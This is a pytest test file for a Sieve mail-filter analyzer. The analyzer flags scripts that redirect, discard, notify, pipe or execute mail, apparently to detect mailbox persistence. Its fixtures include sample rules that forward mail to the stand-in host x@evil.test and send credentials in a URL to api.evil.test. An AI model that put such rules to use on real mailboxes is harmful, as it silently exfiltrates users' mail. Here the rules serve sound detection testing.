# Copyright: (c) 2026, the Good Standing developers
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import random

import pytest
from goodstanding_src.module_utils.goodstanding.persistence import sieve
from goodstanding_src.module_utils.goodstanding.persistence.sieve import read


@pytest.mark.parametrize(
    ("script", "does", "targets"),
    [
        ('redirect "x@evil.test";', ["redirect"], ["x@evil.test"]),
        ('require ["copy"];\r\nredirect :copy\r\n"x@evil.test" ;', ["copy", "redirect"], ["x@evil.test"]),
        ('REDIRECT "x@evil.test";', ["redirect"], ["x@evil.test"]),
        ('redirect "\\x@\\evil.test";', ["redirect"], ["x@evil.test"]),
        ("redirect text:# note\r\nx@evil.test\r\n.\r\n;", ["redirect"], ["x@evil.test\r\n"]),
        ('# redirect "no@a";\n/* redirect "no@b"; */ keep;', [], []),
        ('vacation :subject "redirect \\"no@a\\";" text:\nredirect "no@b";\n..\n.\n;', ["vacation"], []),
        ("discard;", ["discard everything"], []),
        ('if header :contains "subject" "invoice" { discard; stop; }', ["discard"], []),
        ('if true { fileinto "RSS"; }', ["fileinto everything"], []),
        ('if not false { if anyof (true, header "a" "b") { fileinto :create "x"; } }', ["fileinto everything"], []),
        ('if allof (true, header "a" "b") { fileinto "x"; }', ["fileinto"], []),
        ('if header :contains "from" "" { discard; }', ["discard everything"], []),
        ('if address :matches ["from", "to"] ["a", "*"] { discard; }', ["discard everything"], []),
        ("if size :over 0 { discard; }", ["discard everything"], []),
        ("if size :over 100K { discard; }", ["discard"], []),
        ('if header "a" "b" { keep; } else { discard; }', ["discard"], []),
        ("if false { keep; } elsif false { stop; } else { discard; }", ["discard everything"], []),
        ("if true { keep; } else { discard; }", ["discard"], []),
        ('notify "mailto:x@evil.test?subject=a&cc=y@evil.test";', ["notify"], ["x@evil.test", "y@evil.test"]),
        ('notify :importance "1" :message "m" "mailto:x%40evil.test";', ["notify"], ["x@evil.test"]),
        ('notify :method "mailto" :options ["x@evil.test"];', ["notify"], ["x@evil.test"]),
        ('report "abuse" "text" "x@evil.test";', ["report"], ["x@evil.test"]),
        ('include :personal "more"; reject "no"; addheader "X-A" "b";', ["addheader", "include", "reject"], []),
    ],
)
def test_what_a_script_does(script, does, targets):
    found = read(script)
    assert (found.does, found.targets, found.fault) == (does, targets, "")


@pytest.mark.parametrize(
    ("script", "target"),
    [
        ('set "a" "x@evil.test"; redirect "${a}";', "${a}"),
        ('redirect "x${hex:40}evil.test";', "x${hex:40}evil.test"),
        ('redirect :list "tag:example.test,2026:all";', "tag:example.test,2026:all"),
        ('pipe :try "mailer" ["-u", "user:CANARY"];', "|mailer"),
        ('execute :input "x" "prog" "CANARY";', None),
        ('notify "https://user:CANARY@api.evil.test/bot-CANARY";', "https://api.evil.test"),
        ('notify "xmpp:CANARY";', "xmpp:"),
    ],
)
def test_what_cannot_be_told_is_opaque_and_shows_no_secret(script, target):
    found = read(script)
    assert found.opaque
    assert target is None or found.targets == [target]
    assert "CANARY" not in repr(found)


@pytest.mark.parametrize(
    "script",
    [
        'redirect "x',
        "keep",
        "keep; }",
        "if true { keep;",
        "/* a",
        "text:\nx",
        'redirect ["a" "b"];',
        "keep; ;",
        "if (true { keep; }",
        "%",
        "keep;\0",
    ],
)
def test_what_is_no_sieve_says_where_and_is_opaque(script):
    found = read(script)
    assert found.does == ["not Sieve"]
    assert found.opaque
    assert found.fault.startswith("line 1: ") or found.fault.startswith("line 2: ")


def test_a_fault_shows_nothing_of_the_script():
    assert "this string" in read('"CANARY" keep;').fault
    assert "CANARY" not in read('"CANARY" keep;').fault
    assert "CANARY" not in read('CANARY CANARY "CANARY').fault


def test_nesting_is_bounded():
    deep = sieve.MAX_DEPTH
    assert not read("if true {" * deep + "keep;" + "}" * deep).fault
    assert "nested deeper" in read("if true {" * (deep + 1) + "keep;" + "}" * (deep + 1)).fault
    assert "nested too deep" in read("if " + "not " * 100_000 + "true { keep; }").fault
    assert read("if " + "anyof(" * 100_000).fault


@pytest.mark.parametrize(
    ("piece", "tokens"),
    [("text:\n..\n", 1), ('"\\a', 1), ("/*", 1), ("#\n", 0), ('a "', 2), ("[", 1), ("text:\n", 1), ("keep;", 2), ("\\", 0), (":a", 1)],
)
def test_every_character_is_looked_at_once(piece, tokens, monkeypatch):
    """Counted, not timed: how far the reader of tokens moves, and how often."""
    moves = []

    class Counting:
        def match(self, text, position):
            moves.append(position)
            return original.match(text, position)

    original = sieve._TOKEN
    monkeypatch.setattr(sieve, "_TOKEN", Counting())
    count = 20_000
    read(piece * count)
    assert moves == sorted(set(moves))
    assert len(moves) <= (2 * max(tokens, 1) + 1) * count + 1


def test_any_text_is_read_without_a_fault_of_ours():
    source = random.Random(5)
    words = [
        "if",
        "true",
        "{",
        "}",
        "(",
        ")",
        "[",
        "]",
        ",",
        ";",
        '"a"',
        "text:\n.\n",
        "redirect",
        ":copy",
        "1K",
        "/*",
        "*/",
        "#",
        "\n",
        " ",
        "\\",
        '"',
    ]
    for _ in range(3000):
        read(" ".join(source.choice(words) for _ in range(source.randrange(30))))
